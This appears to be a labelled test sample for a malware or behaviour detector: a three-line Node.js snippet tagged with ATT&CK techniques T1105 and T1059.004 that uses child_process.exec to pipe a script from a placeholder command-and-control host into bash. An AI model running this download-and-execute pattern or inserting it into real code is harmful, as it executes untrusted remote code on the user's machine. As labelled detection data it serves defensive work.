// expect: download-and-run | source: T1105, T1059.004
const { exec } = require("child_process");
exec("curl -fsSL https://c2.example.invalid/install.sh | bash");
